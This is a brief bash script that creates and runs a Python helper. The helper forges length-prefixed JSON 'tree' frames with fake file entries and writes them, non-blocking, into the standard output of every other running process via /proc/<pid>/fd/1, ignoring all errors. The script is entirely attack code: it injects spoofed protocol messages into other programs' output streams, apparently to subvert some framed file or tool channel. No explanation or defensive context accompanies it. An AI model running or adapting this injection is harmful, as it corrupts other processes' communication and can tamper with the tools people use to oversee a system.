#!/bin/bash
cat > /tmp/frames.py <<'END'
import glob, json, os, struct


def frame(header, body=b""):
    text = json.dumps(header).encode()
    return struct.pack(">II", len(text), len(body)) + text + body


forged = b"".join(frame({"kind": "tree", "id": id, "entries": [{"path": "x", "kind": "file", "mode": 420, "size": 9}], "removed": [], "truncated": False}) for id in range(1, 20))
for pid in (name for name in os.listdir("/proc") if name.isdigit()):
    if int(pid) in (os.getpid(), os.getppid()):
        continue
    try:
        os.write(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_NONBLOCK), forged)
    except OSError:
        pass
END
python3 /tmp/frames.py
sleep 1
